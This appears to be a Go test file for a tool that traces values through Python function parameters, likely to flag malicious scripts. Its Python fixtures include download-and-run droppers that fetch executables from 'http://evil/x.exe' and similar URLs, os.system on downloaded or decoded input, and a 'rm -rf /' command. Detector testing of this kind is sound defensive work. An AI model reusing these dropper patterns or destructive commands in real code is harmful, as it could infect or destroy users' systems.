package python

import (
	"testing"
)

// utilitytool 0.0.2: the program name reaches the runner through two
// functions' parameters, from main's locals.
func TestParamConstantThroughCalls(t *testing.T) {
	src := `import subprocess, requests
def download_and_run_exe(url, exe_path):
    def download_file(url, exe_path):
        r = requests.get(url)
        with open(exe_path, 'wb') as f:
            f.write(r.content)
        return True
    def run_exe(exe_path):
        subprocess.Popen(exe_path)
        return True
    if download_file(url, exe_path):
        if run_exe(exe_path):
            pass
def main():
    url = "https://raw.githubusercontent.com/x/y/main/pics.exe"
    exe_path = "pics.exe"
    download_and_run_exe(url, exe_path)
main()
`
	m := load(t, src)
	if v := identAt(t, m, "exe_path", 9); !v.Known || v.S != "pics.exe" {
		t.Errorf("run_exe's exe_path = %+v, want \"pics.exe\"", v)
	}
	if v := identAt(t, m, "url", 4); !v.Known || v.S != "https://raw.githubusercontent.com/x/y/main/pics.exe" {
		t.Errorf("download_file's url = %+v", v)
	}
	if v := identAt(t, m, "exe_path", 5); !v.Known || v.S != "pics.exe" {
		t.Errorf("download_file's exe_path = %+v", v)
	}
}

// Calls passing different values: no constant, but every call's flows.
func TestParamDisagreeingCallsMergeFlows(t *testing.T) {
	src := `import os, requests, base64
def run(cmd):
    os.system(cmd)
def a():
    data = requests.get("http://x").text
    run(data)
def b():
    run("ls")
def c():
    run(base64.b64decode(os.environ["X"]))
`
	m := load(t, src)
	v := identAt(t, m, "cmd", 3)
	if v.Known || v.Partial != "" {
		t.Errorf("cmd holds a constant: %+v", v)
	}
	if !derives(v, "requests.get") || !derives(v, "os.environ") {
		t.Errorf("cmd does not keep its calls' flows: %v", v.From)
	}
}

// A flow from one call is kept even when the constants agree elsewhere:
// a value downloaded in one function and passed to a helper.
func TestParamFlowFromOneCall(t *testing.T) {
	src := `import subprocess, urllib.request
def save(path, data):
    open(path, "wb").write(data)
    subprocess.Popen(path)
def main():
    payload = urllib.request.urlopen("http://x/a.exe").read()
    save("a.exe", payload)
`
	m := load(t, src)
	if v := identAt(t, m, "data", 3); !derives(v, "urllib.request.urlopen") {
		t.Errorf("data: %v", v.From)
	}
	if v := identAt(t, m, "path", 4); v.S != "a.exe" {
		t.Errorf("path = %+v", v)
	}
}

func TestParamDefaultWhenOmitted(t *testing.T) {
	src := `import os
def run(cmd="calc.exe", wait=True):
    os.system(cmd)
def other(cmd="calc.exe"):
    os.system(cmd)
run()
run(wait=False)
run("calc.exe")
run(cmd="calc.exe")
other()
other("notepad.exe")
def never(cmd="x"):
    os.system(cmd)
`
	m := load(t, src)
	if v := identAt(t, m, "cmd", 3); !v.Known || v.S != "calc.exe" {
		t.Errorf("run's cmd = %+v, want calc.exe", v)
	}
	if v := identAt(t, m, "cmd", 5); v.Known {
		t.Errorf("other's cmd = %q, want unknown", v.S)
	}
	if v := identAt(t, m, "cmd", 13); v.Known {
		t.Errorf("a function never called holds its default %q", v.S)
	}
}

func TestParamMethodViaSelf(t *testing.T) {
	src := `import requests, os
class Dropper:
    def fetch(self, url, name):
        r = requests.get(url)
        open(name, "wb").write(r.content)
        os.startfile(name)
    @staticmethod
    def run(cmd):
        os.system(cmd)
    @classmethod
    def make(cls, key):
        return key
    def go(self):
        self.fetch("http://evil/x.exe", name="x.exe")
        self.run("x.exe")
        Dropper.make("k")
d = Dropper()
d.fetch("http://evil/x.exe", "x.exe")
d.make("k")
s = requests.Session()
s.run("something else")
`
	m := load(t, src)
	if v := identAt(t, m, "url", 4); v.S != "http://evil/x.exe" {
		t.Errorf("url = %+v", v)
	}
	if v := identAt(t, m, "name", 6); v.S != "x.exe" {
		t.Errorf("name = %+v", v)
	}
	if v := identAt(t, m, "cmd", 9); v.S != "x.exe" {
		t.Errorf("static method's cmd = %+v", v)
	}
	if v := identAt(t, m, "key", 12); v.S != "k" {
		t.Errorf("class method's key = %+v", v)
	}
}

func TestParamCallbackIsUnknown(t *testing.T) {
	src := `import os, threading
def run(cmd):
    os.system(cmd)
run("ls")
threading.Thread(target=run, args=("rm -rf /",)).start()
class C:
    def on(self, cmd):
        os.system(cmd)
    def start(self):
        self.on("ls")
        threading.Thread(target=self.on).start()
def deco(f):
    return f
@deco
def hook(cmd):
    os.system(cmd)
hook("ls")
`
	m := load(t, src)
	for _, line := range []int{3, 8, 16} {
		if v := identAt(t, m, "cmd", line); v.Known {
			t.Errorf("line %d: a callback's parameter holds %q", line, v.S)
		}
	}
}

func TestParamRecursionTerminates(t *testing.T) {
	src := `import os
def walk(path, depth):
    os.listdir(path)
    walk(path + "/sub", depth + 1)
walk("/home", 0)
def f(x):
    g(x)
    return x
def g(y):
    f(y)
    os.system(y)
f("id")
def h(a, b):
    h(b, a)
    os.system(a)
h("p", "q")
`
	m := load(t, src)
	if v := identAt(t, m, "path", 3); v.Known {
		t.Errorf("walk's path = %q, want unknown", v.S)
	}
	if v := identAt(t, m, "y", 11); v.S != "id" {
		t.Errorf("g's y = %+v, want id", v)
	}
	if v := identAt(t, m, "x", 8); v.S != "id" {
		t.Errorf("f's x = %+v, want id", v)
	}
	if v := identAt(t, m, "a", 15); v.Known {
		t.Errorf("h's a = %q, want unknown", v.S)
	}
}

// A parameter the function rebinds is left to its bindings; a local
// function's call by the same name elsewhere is not its call.
func TestParamRebindingAndShadowing(t *testing.T) {
	src := `import os
def run(cmd):
    cmd = cmd.strip()
    os.system(cmd)
run("ls")
def exec_it(c):
    os.system(c)
def other():
    def exec_it(c):
        return c
    exec_it("rm")
exec_it("id")
`
	m := load(t, src)
	if v := identAt(t, m, "cmd", 4); v.Known && v.S != "ls" {
		t.Errorf("rebound cmd = %+v", v)
	}
	if v := identAt(t, m, "c", 7); v.S != "id" {
		t.Errorf("module exec_it's c = %+v, want id", v)
	}
	if v := identAt(t, m, "c", 10); v.S != "rm" {
		t.Errorf("nested exec_it's c = %+v, want rm", v)
	}
}
